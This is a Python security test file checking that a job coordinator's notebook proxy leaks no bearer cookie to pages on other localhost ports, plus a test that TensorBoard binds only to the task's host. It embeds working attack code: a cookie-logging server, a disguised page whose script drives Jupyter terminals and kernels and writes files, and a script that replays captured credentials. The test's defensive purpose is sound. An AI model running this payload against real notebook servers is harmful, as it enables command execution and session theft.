"""Issue 33, item 1: no bearer credential in a cookie that a browser sends to
other ports. A browser sends a host's cookies to every port of that host, and
SameSite counts every port of 127.0.0.1 as the same site. Tried as it was
done: the job's owner (Chromium) opens the link `tony notebook` printed and
the job page's link, then an ordinary page that the suite's second local
user serves on another port. That user's server logs every request's
cookies, and its page's script drives the coordinator's notebook proxy
(a terminal and a kernel over REST, a terminal's WebSocket, a file through
the contents API). Nothing it receives replays to 200, no terminal or kernel
is made, no file appears. Also: TensorBoard's sidecar serves on the task's
host only, not on the machine's other addresses (item 3)."""
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.parse
import urllib.request
import uuid

import pytest

from conftest import ATTACKER, PYTHON, second_user, wait_for
from test_notebook import api, parts, start_notebook
from test_tensorboard import SMALL, TRAIN_PY, Submit, job_dir_of, port_open
from test_web_ui import BROWSER_DIR, CHROMIUM, ARTIFACTS, browser_tools  # noqa: F401 (a fixture)

pytestmark = pytest.mark.ml

# The other user's web server (argv: the coordinator's port, the marker a
# command run through the notebook would write): logs each request's path
# and Cookie header as a JSON line on stdout; "/" is a page whose script
# tries the notebook proxy, then asks its own server for paths under which a
# cookie could be scoped, and says it is done.
ATTACKER_SERVER = r"""
import http.server, json, sys
COORD, MARKER = sys.argv[1], sys.argv[2]
PAGE = '''<!doctype html><title>cat pictures</title><p>nothing to see</p><script>
const C = "http://127.0.0.1:%s", W = "ws://127.0.0.1:%s";
const post = (p, body) => fetch(C + p, {method: "POST", credentials: "include", mode: "no-cors", body}).catch(() => 0);
const put = (p, body) => fetch(C + p, {method: "PUT", credentials: "include", mode: "no-cors", body}).catch(() => 0);
const ws = (p, send) => new Promise((res) => {
  try {
    const s = new WebSocket(W + p);
    s.onopen = () => { for (const m of send) s.send(m); setTimeout(() => { s.close(); res(); }, 1500); };
    s.onerror = () => res();
  } catch (e) { res(); }
});
async function go() {
  await post("/notebook/api/terminals");
  await post("/notebook/api/kernels");
  await put("/notebook/api/contents/pwned.txt", JSON.stringify({type: "file", format: "text", content: "pwned"}));
  await ws("/notebook/terminals/websocket/1", [JSON.stringify(["stdin", "id > %s\\r"])]);
  await ws("/notebook/api/kernels/x/channels", []);
  for (const p of ["/", "/notebook/", "/notebook/api/", "/notebook/terminals/", "/v1/job", "/ui/", "/tensorboard/"])
    await fetch(p, {credentials: "include"}).catch(() => 0);
  document.body.insertAdjacentHTML("beforeend", "<p id=done>done</p>");
}
go();
</script>''' % (COORD, COORD, MARKER)

class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print(json.dumps({"path": self.path, "cookie": self.headers.get("Cookie")}), flush=True)
        body = PAGE.encode() if self.path == "/" else b"{}"
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if self.path == "/" else "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass

s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
print(json.dumps({"port": s.server_address[1]}), flush=True)
s.serve_forever()
"""

# Runs as the other user: replays what its server received (argv[1]: JSON
# [[url, method, headers]]) and prints each status.
REPLAY = r"""
import http.client, json, sys, urllib.parse
out = []
for url, method, headers in json.loads(sys.argv[1]):
    u = urllib.parse.urlsplit(url)
    c = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
    c.request(method, u.path + ("?" + u.query if u.query else ""), body=b"{}" if method != "GET" else None,
              headers=headers)
    out.append(c.getresponse().status)
    c.close()
print(json.dumps(out))
"""


def as_attacker(*args, **kw):
    """The attacker's python (runuser's child), in a session of its own: a
    kill of runuser alone would leave it running."""
    return subprocess.Popen(["runuser", "-u", ATTACKER, "--", "/usr/bin/python3", *args], cwd="/",
                            start_new_session=True, **kw)


def test_another_users_page_gets_no_credential_and_runs_nothing(tony, browser_tools, tmp_path):  # noqa: F811
    second_user()
    marker = f"/tmp/tony-pwned-{uuid.uuid4().hex}"
    proc, link = start_notebook(tony, "--conf", "tony.notebook.idle-timeout=5m")
    server = job = None
    try:
        base, netloc, token = parts(link)
        wait_for(lambda: api(base, token, "/api/status")[0] == 200, timeout=60, what="Jupyter behind the proxy")
        job = json.loads(urllib.request.urlopen(urllib.request.Request(
            base + "/v1/job", headers={"X-Tony-Token": token}), timeout=10).read())
        work = tony.home / "jobs" / job["app_id"] / "attempts" / "0" / "notebook-0" / "work"
        coord_port = urllib.parse.urlsplit(base).port
        server = as_attacker("-c", ATTACKER_SERVER, str(coord_port), marker, stdout=subprocess.PIPE, text=True)
        aport = json.loads(server.stdout.readline())["port"]
        cfg = {"notebook": link, "page": f"{base}/?token={token}", "app_id": job["app_id"],
               "attacker": f"http://127.0.0.1:{aport}/", "artifacts": str(ARTIFACTS), "chromium": CHROMIUM}
        p = subprocess.run([browser_tools, str(BROWSER_DIR / "web_trust.mjs"), json.dumps(cfg)], cwd=BROWSER_DIR,
                           capture_output=True, text=True, timeout=300)
        assert p.returncode == 0, f"browser run failed (screenshots in {ARTIFACTS}):\n{p.stderr}\n{p.stdout}"
        seen = json.loads(p.stdout.strip().splitlines()[-1])
        # the owner's own use works: Jupyter from its origin, a kernel and its channels
        assert seen["own"] == {"kernel": 201, "ws": "open"}, seen
        server.terminate()
        logged = [json.loads(line) for line in server.communicate(timeout=20)[0].splitlines()]
        assert any(r["path"] == "/tensorboard/" for r in logged), logged  # the page ran to its end
        # what the other user's server received: no token, and nothing that replays
        cookies = [c.strip() for r in logged if r["cookie"] for c in r["cookie"].split(";")]
        assert not any(token in c for c in cookies), cookies
        values = [c.partition("=")[2] for c in cookies]
        tries = [[base + "/v1/job", "GET", {"Cookie": "; ".join(cookies)}]] if cookies else []
        for v in values:
            tries += [[base + "/v1/job", "GET", {"X-Tony-Token": v}], [base + "/v1/job", "GET", {"Authorization": f"Bearer {v}"}]]
        for path in ("/notebook/api/terminals", "/notebook/api/kernels"):
            tries += [[base + path, "POST", {"Cookie": "; ".join(cookies), "Origin": base}]]
        replay = subprocess.run(["runuser", "-u", ATTACKER, "--", "/usr/bin/python3", "-c", REPLAY, json.dumps(tries)],
                                capture_output=True, text=True, timeout=60, cwd="/")
        assert replay.returncode == 0, replay.stderr
        assert 200 not in json.loads(replay.stdout) and 201 not in json.loads(replay.stdout), (tries, replay.stdout)
        # nothing was made or run as the owner
        time.sleep(1)
        code, terminals = api(base, token, "/api/terminals")
        assert code == 200 and terminals == [], terminals
        code, kernels = api(base, token, "/api/kernels")
        assert code == 200 and kernels == [], kernels
        assert not os.path.exists(marker), open(marker).read()
        assert not (work / "pwned.txt").exists()
    finally:
        if server:
            try:
                os.killpg(server.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            server.wait()
        if job:
            tony.run("kill", job["app_id"], timeout=60)
        proc.kill() if job is None else proc.wait(timeout=30)
        if os.path.exists(marker):
            os.unlink(marker)


def addresses():
    """This machine's addresses other than loopback (IPv4)."""
    out = subprocess.run(["ip", "-o", "-4", "addr", "show", "scope", "global"], capture_output=True, text=True).stdout
    return [line.split()[3].split("/")[0] for line in out.splitlines()]


def test_tensorboard_serves_on_the_tasks_host_only(tony, scripts, tmp_path):
    """The sidecar's TensorBoard listens where the coordinator sends the
    browser (the task's host: loopback on the local backend), not on every
    interface (--bind_all): from the machine's other addresses, nothing."""
    others = addresses()
    assert others, "this test needs an address other than loopback"
    (scripts / "train.py").write_text(TRAIN_PY)
    s = Submit(tony, ["--src_dir", str(scripts), "--executes", "train.py tensorboard", "--python_binary_path",
                      str(PYTHON),
                      "--sidecar_tensorboard_log_dir", "tb-logs", "--conf", "tony.worker.instances=1", *SMALL],
               cwd=tmp_path)
    try:
        job = job_dir_of(tony.home)
        line = wait_for(lambda: s.line_with("tony: TensorBoard at "), 120, interval=0.5, what="the TensorBoard line")
        tb_url = line.split("tony: TensorBoard at ")[1].split()[0]
        wait_for(lambda: port_open(tb_url), 60, what="TensorBoard serving")
        port = urllib.parse.urlsplit(tb_url).port
        for a in others:
            with pytest.raises(OSError):
                socket.create_connection((a, port), timeout=3).close()
        (job / "shared" / "release").write_text("")
        rc, out, err = s.finish()
    finally:
        if s.proc.poll() is None:
            tony.run("kill", job_dir_of(tony.home).name, timeout=60)
            s.proc.kill()
    assert rc == 0, out + err


if __name__ == "__main__":
    sys.exit(pytest.main([__file__, "-q"]))
